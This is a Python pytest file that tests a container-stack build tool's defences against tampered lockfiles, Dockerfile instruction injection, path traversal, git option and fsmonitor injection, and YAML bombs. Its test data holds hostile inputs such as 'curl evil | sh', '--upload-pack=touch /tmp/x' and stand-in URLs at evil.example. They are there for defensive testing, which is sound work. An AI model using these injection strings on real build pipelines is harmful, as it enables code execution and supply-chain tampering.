"""Regression tests of issue 8: each finding, tried as an attacker or a careless user would.

Every case ends in a clear error naming the file and field (exit 2 for bad input) or in safe
output, never in a traceback, a hang, or a lock that overrides its manifest.
"""

from __future__ import annotations

import dataclasses
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from builder import lock as lock_io
from builder.inputs.download_package import LockedDownload
from builder.inputs.git_source import LockedGit
from builder.model.arch import Arch
from builder.model.errors import InputError
from builder.plan.prepare import resolve_inputs
from builder.store.cache import Cache
from builder.store.files import write_atomic
from tests.conftest import ROOT
from tests.golden_plan import golden_request
from tests.helpers import git, make_repo, run_cli

VALID = (ROOT / "tests" / "manifests" / "valid.yaml").read_text()
GENERATED = '      x86_64:\n        file: tk_x86_64.run\n        generate: "printf tk > {output_dir}/tk_x86_64.run"\n'


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project root (a git repository) with stacks/demo.yaml (a path source, a generated package), locked."""
    monkeypatch.setenv("STACKBUILD_CACHE", str(tmp_path / "cache"))
    (tmp_path / "site.yaml").write_text("{}\n")
    monkeypatch.setenv("STACKBUILD_SITE_CONFIG", str(tmp_path / "site.yaml"))
    root = tmp_path / "project"
    make_repo(root)
    (root / "stacks" / "app").mkdir(parents=True)
    (root / "stacks" / "app" / "Makefile").write_text("all:\n\ttrue\n")
    text = VALID.replace("source: {path: .}", "source: {path: app}").replace("name: mini", "name: demo")
    text = text[: text.index("      x86_64:")] + GENERATED + text[text.index("host:") :]
    (root / "stacks" / "demo.yaml").write_text(text)
    return root


def cli(capsys: pytest.CaptureFixture[str], root: Path, *args: str) -> tuple[int, str, str]:
    return run_cli(capsys, "--root", str(root), *args)


def reseal(path: Path, edit: dict[str, object]) -> None:
    """Edit a lock's JSON (dotted paths) and recompute its digest, as an attacker would."""
    data = json.loads(path.read_text())
    for dotted, value in edit.items():
        *parents, last = dotted.split(".")
        node = data
        for part in parents:
            node = node[int(part)] if isinstance(node, list) else node[part]
        node[last] = value
    try:
        data["lock_sha256"] = lock_io.Lock.model_validate(data).content_sha256()
    except Exception:  # an invalid value: the digest cannot be computed from the model, seal by hand
        data["lock_sha256"] = "0" * 64
    path.write_text(json.dumps(data))


# -- High: a resealed lock cannot override its manifest -------------------------------------


@pytest.mark.parametrize(
    ("edit", "expected"),
    [
        (
            {"architectures.x86_64.packages.0.command": "curl http://evil/x > {output_dir}/tk_x86_64.run"},
            "architectures.x86_64.packages.toolkit.command: the lock has",
        ),
        ({"toolkit.version": "8.3.RC1\nRUN curl evil | sh"}, "toolkit.version"),
        ({"base.image": "attacker/img:latest"}, "base.image"),
        ({"base.image": "attacker/img@sha256:" + "a" * 64}, "base.image: the lock has 'attacker/img@sha256:"),
        ({"architectures.x86_64.packages.0.file": "../Dockerfile"}, "must be a bare file name"),
        ({"components.0.source.path": "../../../etc"}, "components.first.source.path: the lock has"),
    ],
    ids=["package-origin", "newline-version", "unpinned-base", "other-pinned-base", "file-escape", "path-source"],
)
def test_a_resealed_lock_cannot_override_the_manifest(
    project: Path, capsys: pytest.CaptureFixture[str], edit: dict[str, object], expected: str
) -> None:
    assert cli(capsys, project, "lock", "demo")[0] == 0
    reseal(project / "lockfiles" / "demo.lock.json", edit)
    for command in (["render", "demo"], ["lock", "--check", "demo"]):
        code, out, err = cli(capsys, project, *command)
        assert code in (1, 2) and expected in err, (command, err)
        assert "RUN curl" not in out and "Traceback" not in err


# -- High: path sources stay inside the manifest's repository -------------------------------


@pytest.mark.parametrize("path", ["../../etc", "/etc", "app/../../.."])
def test_path_sources_cannot_leave_the_repository(project: Path, capsys: pytest.CaptureFixture[str], path: str) -> None:
    manifest = project / "stacks" / "demo.yaml"
    manifest.write_text(manifest.read_text().replace("source: {path: app}", f"source: {{path: '{path}'}}", 1))
    code, _, err = cli(capsys, project, "lock", "demo")
    assert code == 2
    assert "components[0].source.path: " in err
    assert "outside" in err or "absolute" in err


def test_monorepo_paths_inside_the_repository_are_fine(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (project / "src" / "lib").mkdir(parents=True)
    (project / "src" / "lib" / "Makefile").write_text("all:\n")
    manifest = project / "stacks" / "demo.yaml"
    manifest.write_text(manifest.read_text().replace("source: {path: app}", "source: {path: ../src/lib}", 1))
    assert cli(capsys, project, "lock", "demo")[0] == 0


@pytest.mark.parametrize("kind", ["fifo", "socket"])
def test_special_files_in_a_source_tree_are_refused_by_name(
    project: Path, capsys: pytest.CaptureFixture[str], kind: str
) -> None:
    target = project / "stacks" / "app" / "special"
    if kind == "fifo":
        os.mkfifo(target)
    else:
        sock = socket.socket(socket.AF_UNIX)
        sock.bind(str(target))
    code, _, err = cli(capsys, project, "lock", "demo")
    assert code == 2, err
    assert f"{target} is a {'FIFO' if kind == 'fifo' else 'socket'}" in err


# -- Medium: strings from files cannot become Dockerfile instructions -----------------------


@pytest.mark.parametrize(
    ("old", "new", "field"),
    [
        ("    build: [make]", '    build: [make]\n    env: {A: "x\\nRUN evil"}', "components[0].env.A"),
        ("    build: [make]", '    build: [make]\n    env: {"A\\n": x}', "components[0].env"),
        (
            "    build: [make]",
            '    build: [make]\n    artifacts: [{path: "x\\nRUN evil"}]',
            "components[0].artifacts[0].path",
        ),
        (
            "  - id: first\n    source: {path: app}",
            '  - id: first\n    source: {git: "https://h/r.git", ref: "main\\nRUN evil"}',
            "components[0].source.ref",
        ),
        (
            "  - id: first\n    source: {path: app}",
            "  - id: first\n    source: {git: '--upload-pack=touch /tmp/x', ref: main}",
            "components[0].source.git",
        ),
        (
            "  - id: first\n    source: {path: app}",
            "  - id: first\n    source: {git: 'http://TOKEN@h/r.git', ref: main}",
            "components[0].source.git",
        ),
        ('  expect: ""', '  expect: "(unclosed"', "smoke.expect"),
    ],
    ids=["env-value", "env-name", "artifact", "git-ref", "git-option", "token-userinfo", "regex"],
)
def test_manifest_strings_are_refused_before_they_reach_a_dockerfile(
    project: Path, capsys: pytest.CaptureFixture[str], old: str, new: str, field: str
) -> None:
    manifest = project / "stacks" / "demo.yaml"
    text = manifest.read_text()
    assert old in text
    manifest.write_text(text.replace(old, new, 1))
    code, out, err = cli(capsys, project, "validate", str(manifest))
    assert code == 2 and out == ""
    assert len(err.splitlines()) == 1 and f": {field}: " in err, err
    assert "TOKEN" not in err


def test_artifact_path_with_a_space_is_one_copy_source(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    manifest = project / "stacks" / "demo.yaml"
    text = manifest.read_text().replace(
        "    build: [make]", "    build: [make]\n    artifacts: [{path: 'x /', runtime: true}]", 1
    )
    manifest.write_text(text)
    assert cli(capsys, project, "lock", "demo")[0] == 0
    code, out, _ = cli(capsys, project, "render", "demo", "--arch", "x86_64")
    assert code == 0
    # Copied wherever it goes (its dependents, the devel and the runtime image), each time as one source.
    copies = [line for line in out.splitlines() if "/opt/stack/first/x /" in line]
    assert len(copies) >= 2
    for line in copies:
        assert (
            line
            == "COPY --from="
            + line.split("=", 1)[1].split(" ", 1)[0]
            + ' ["/opt/stack/first/x /", "/opt/stack/first/x /"]'
        )


@pytest.mark.parametrize(
    ("field", "value"),
    [("suite", "--setup-hook=touch /tmp/pwned"), ("mirror", "--setup-hook=touch /tmp/pwned"), ("packages", "[--hook]")],
)
def test_bootstrap_fields_cannot_be_options(
    project: Path, capsys: pytest.CaptureFixture[str], field: str, value: str
) -> None:
    manifest = project / "stacks" / "demo.yaml"
    text = manifest.read_text()
    start, end = text.index("base:"), text.index("components:")
    spec = {"suite": "bookworm", "mirror": "http://deb.debian.org/debian", "packages": "[make]"} | {field: value}
    base = f"base:\n  bootstrap:\n    suite: '{spec['suite']}'\n    mirror: '{spec['mirror']}'\n"
    base += f"    packages: {spec['packages']}\n"
    manifest.write_text(text[:start] + base + text[end:])
    code, _, err = cli(capsys, project, "validate", str(manifest))
    assert code == 2 and f"base.bootstrap.{field}" in err, err


def test_git_never_runs_a_source_trees_own_configuration(
    project: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    marker = tmp_path / "fsmonitor-ran"
    nested = project / "stacks" / "app"
    git("init", "-q", cwd=nested)
    git("config", "core.fsmonitor", f"touch {marker}; false", cwd=nested)
    for command in (["lock", "demo"], ["render", "demo"], ["lock", "--check", "demo"]):
        cli(capsys, project, *command)
    assert not marker.exists()
    subprocess.run(["git", "status"], cwd=nested, capture_output=True)  # plain git does run it: the test can fail
    assert marker.exists()


# -- Medium: concurrent writers, truncated records -------------------------------------------


def test_concurrent_lock_writes_never_show_a_reader_half_a_file(tmp_path: Path) -> None:
    path = tmp_path / "x.lock.json"
    texts = [json.dumps({"writer": n, "pad": "x" * 200_000}) for n in range(2)]
    write_atomic(path, texts[0])
    errors: list[str] = []

    def writer(text: str) -> None:
        for _ in range(60):
            write_atomic(path, text)

    def reader() -> None:
        for _ in range(300):
            if path.read_text() not in texts:
                errors.append("a reader saw a partial file")

    threads = [threading.Thread(target=writer, args=(t,)) for t in texts] + [threading.Thread(target=reader)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert [p.name for p in tmp_path.iterdir()] == ["x.lock.json"]  # no temporary file left


def test_truncated_cache_record_counts_as_missing(tmp_path: Path) -> None:
    cache = Cache(tmp_path)
    cache.records.write({"sha256": "a" * 64, "packages": {}}, "base", "k")
    record = next((tmp_path / "records").rglob("k.json"))
    record.write_text(record.read_text()[:10])
    assert cache.records.read("base", "k") is None


# -- Tracebacks and hangs ---------------------------------------------------------------------

BAD_YAML = {
    "non-utf8": b"schema: 1\nname: \xff\xfe\n",
    "deep": b"[" * 5000 + b"]" * 5000,
    "alias-bomb": b"a: &a [x,x,x,x,x,x,x,x,x]\n"
    + b"".join(f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n".encode() for i in range(8)),
    "list": b"- just\n- a list\n",
    "scalar": b"42\n",
    "cyclic": b"&a [*a]\n",
}


@pytest.mark.parametrize("name", sorted(BAD_YAML))
def test_bad_yaml_manifests_and_site_configs_give_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    path = tmp_path / f"{name}.yaml"
    path.write_bytes(BAD_YAML[name])
    code, _, err = run_cli(capsys, "validate", str(path))
    assert code == 2 and len(err.strip().splitlines()) == 1 and err.startswith(str(path)), err
    code, _, err = run_cli(capsys, "--site-config", str(path), "render", "reference")
    assert code == 2 and len(err.strip().splitlines()) == 1 and "Traceback" not in err, err


@pytest.mark.parametrize("content", [b"[]", b"null", b"\xff\xfe", b"{", b'{"lock_version": 2}', b"42"])
def test_bad_lockfiles_give_one_line_and_exit_2(
    project: Path, capsys: pytest.CaptureFixture[str], content: bytes
) -> None:
    (project / "lockfiles").mkdir()
    (project / "lockfiles" / "demo.lock.json").write_bytes(content)
    code, _, err = cli(capsys, project, "render", "demo")
    assert code == 2 and len(err.strip().splitlines()) == 1 and "demo.lock.json" in err, err


def test_malformed_url_is_a_located_error(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    manifest = project / "stacks" / "demo.yaml"
    manifest.write_text(
        manifest.read_text().replace("source: {path: app}", "source: {git: 'http://[::1', ref: main}", 1)
    )
    code, _, err = cli(capsys, project, "validate", str(manifest))
    assert code == 2 and "components[0].source.git: not a valid URL" in err


def test_new_for_an_unknown_version_and_bad_outputs(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run_cli(
        capsys, "--root", str(ROOT), "new", "1.2.3", "--chip", "910b", "-o", str(tmp_path / "x.yaml")
    )
    assert code == 2 and "CANN 1.2.3 has no package list in the catalog" in err
    (tmp_path / "exists.yaml").write_text("mine\n")
    code, _, err = run_cli(
        capsys, "--root", str(ROOT), "new", "8.5.0", "--chip", "910b", "-o", str(tmp_path / "exists.yaml")
    )
    assert code == 2 and "exists" in err and (tmp_path / "exists.yaml").read_text() == "mine\n"
    code, _, err = run_cli(capsys, "--root", str(ROOT), "new", "8.5.0", "--chip", "910b", "-o", "/proc/x/y.yaml")
    assert code == 2 and "cannot write there" in err
    code, _, err = run_cli(
        capsys,
        "--root",
        str(tmp_path),
        "new",
        "8.5.0",
        "--chip",
        "910b",
        "--from",
        str(ROOT / "stacks" / "8.5.0.yaml"),
        "--name",
        "bad name",
    )
    assert code == 2 and "--name 'bad name'" in err
    assert not (tmp_path / "stacks").exists()


def test_render_to_an_unwritable_place(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    code, _, err = run_cli(capsys, "--root", str(ROOT), "render", "reference", "-o", str(tmp_path / "file"))
    assert code == 2 and "cannot write there" in err


# -- Low ---------------------------------------------------------------------------------------


def test_site_config_secrets(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    site = tmp_path / "site.yaml"
    site.write_text("repos:\n  ascend-c: https://ghp_TOKEN@git.internal/a.git\n")
    code, _, err = run_cli(capsys, "--site-config", str(site), "render", "reference")
    assert code == 2 and "credentials do not go in the site configuration" in err and "ghp_TOKEN" not in err
    site.write_text("url_rewrites:\n  - {from: 'https://a/', to: 'https://b/?private_token=XYZ'}\n")
    code, _, err = run_cli(capsys, "--site-config", str(site), "render", "reference")
    assert code == 2 and "XYZ" not in err
    site.write_text(
        "repos:\n  oauth-tools: https://git.internal/oauth-tools.git\n  auth: https://git.internal/auth.git\n"
    )
    assert (
        run_cli(
            capsys, "--root", str(ROOT), "--site-config", str(site), "render", "reference", "-o", str(tmp_path / "r")
        )[0]
        == 0
    )


def test_missing_site_config_named_in_the_environment_is_an_error(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("STACKBUILD_SITE_CONFIG", str(tmp_path / "nope.yaml"))
    code, _, err = run_cli(capsys, "--root", str(ROOT), "render", "reference")
    assert code == 2 and "nope.yaml, which is not a file" in err


def test_a_huge_invalid_name_is_not_echoed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "m.yaml"
    path.write_text(VALID.replace("name: mini", "name: '" + "x y" * 100_000 + "'"))
    code, _, err = run_cli(capsys, "validate", str(path))
    assert code == 2 and len(err) < 400, err[:500]


def test_unexpected_errors_name_a_log_with_the_traceback(tmp_path: Path) -> None:
    """The boundary: anything unexpected is one line naming a log with the traceback."""
    root = tmp_path / "root"
    shutil.copytree(ROOT / "stacks", root / "stacks", ignore=shutil.ignore_patterns("build", "__pycache__"))
    shutil.copytree(ROOT / "lockfiles", root / "lockfiles")
    code = (
        "import builder.execute.chain as c; c.make_plan = None; from builder.cli import main; raise SystemExit(main())"
    )
    run = subprocess.run(
        [sys.executable, "-c", code, "--root", str(root), "render", "reference"],
        capture_output=True,
        text=True,
        env=dict(os.environ, PYTHONPATH=str(ROOT)),
    )
    assert run.returncode == 1
    assert len(run.stderr.strip().splitlines()) == 1 and "internal error: TypeError" in run.stderr
    log = Path(run.stderr.split("traceback in ")[1].rstrip(")\n"))
    assert "Traceback" in log.read_text()


def test_a_failure_is_one_line_naming_its_traceback_and_debug_shows_it(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    manifest = project / "stacks" / "demo.yaml"
    missing = project.parent / "no-such-repo"
    manifest.write_text(
        manifest.read_text().replace("source: {path: app}", f"source: {{git: 'file://{missing}', ref: main}}", 1)
    )
    code, _, err = cli(capsys, project, "lock", "demo")
    lines = [line for line in err.splitlines() if line.startswith("stackbuild:")]
    assert code == 1 and len(lines) == 1 and "cannot list refs" in lines[0], err
    log = Path(lines[0].rsplit("traceback in ", 1)[1].rstrip(")"))
    assert "SourceError" in log.read_text()
    code, _, err = cli(capsys, project, "--debug", "lock", "demo")
    assert code == 1 and "Traceback (most recent call last)" in err


def test_a_resealed_lock_cannot_point_a_pinned_package_elsewhere() -> None:
    """The golden stack's toolkit is a download pinned by sha256 in the manifest."""
    request = golden_request()
    section = request.lock.architectures[Arch.X86_64]
    pinned = section.packages[0]
    assert isinstance(pinned, LockedDownload)
    evil = pinned.model_copy(update={"url": "https://evil.example/tk.zip", "sha256": "e" * 64})
    tampered = request.lock.model_copy(
        update={"architectures": {Arch.X86_64: section.model_copy(update={"packages": [evil, *section.packages[1:]]})}}
    ).sealed()
    assert tampered.lock_sha256 != request.lock.lock_sha256  # resealed: its own digest is fine
    with pytest.raises(InputError) as info:
        resolve_inputs(dataclasses.replace(request, lock=tampered), say=print)
    assert "architectures.x86_64.packages.toolkit.url: the lock has 'https://evil.example/tk.zip'" in str(info.value)
    assert "(and 1 more)" in str(info.value)  # the sha256 too


@pytest.mark.parametrize(
    ("old", "new", "field"),
    [
        (
            "    build: [make]",
            "    build: [make]\n    artifacts: [{path: '${X:-.}${X:-.}/${X:-.}'}]",
            "components[0].artifacts[0].path",
        ),
        (
            "    build: [make]",
            "    build: [make]\n    installs: [{path: '/usr/local/$HOME'}]",
            "components[0].installs[0].path",
        ),
    ],
    ids=["artifact", "install"],
)
def test_docker_variables_in_copied_paths_are_refused(
    project: Path, capsys: pytest.CaptureFixture[str], old: str, new: str, field: str
) -> None:
    manifest = project / "stacks" / "demo.yaml"
    manifest.write_text(manifest.read_text().replace(old, new, 1))
    code, _, err = cli(capsys, project, "validate", str(manifest))
    assert code == 2 and f": {field}: " in err and "'$' and '\\' are not allowed" in err, err


def test_a_resealed_submodule_cannot_point_outside_the_checkout() -> None:
    source = {"kind": "git", "url": "https://h/r.git", "ref": "main", "commit": "1" * 40}
    sub = {"path": "/etc/cron.d", "url": "https://evil/x.git", "commit": "2" * 40}
    with pytest.raises(ValueError, match="must be a relative path"):
        LockedGit.model_validate({**source, "submodules": [sub]})
    for bad in ("../../x", "a/../../b", "./x", "a//b"):
        with pytest.raises(ValueError):
            LockedGit.model_validate({**source, "submodules": [{**sub, "path": bad}]})


@pytest.mark.parametrize("jobs", ["0", "-1", "two"])
def test_jobs_must_be_positive(capsys: pytest.CaptureFixture[str], jobs: str) -> None:
    with pytest.raises(SystemExit) as info:
        run_cli(capsys, "build", "reference", "--jobs", jobs)
    assert info.value.code == 2
    assert "is not a positive whole number" in capsys.readouterr().err
